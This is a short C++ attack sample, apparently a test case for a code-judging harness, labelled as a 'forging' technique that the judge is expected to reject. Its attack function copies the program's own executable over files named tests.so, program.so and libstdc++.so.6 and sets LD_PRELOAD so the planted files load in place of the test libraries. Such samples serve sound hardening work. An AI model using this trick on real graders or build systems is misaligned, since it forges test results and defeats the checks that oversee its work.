// technique: leaves objects where the tests' might be looked for
// class: forging
// expect: wrong_answer
    void attack();
    attack();
    return 0;
}

#include <fcntl.h>
#include <fstream>
#include <unistd.h>
void attack() {
    ifstream own("/proc/self/exe", ios::binary);
    string all((istreambuf_iterator<char>(own)), istreambuf_iterator<char>());
    for (const char* name : {"program.so", "tests.so", "libstdc++.so.6", "templates.so", "../program.so", "../tests.so"}) ofstream(name) << all;
    setenv("LD_PRELOAD", "./tests.so", 1);
    setenv("LD_LIBRARY_PATH", ".", 1);
}
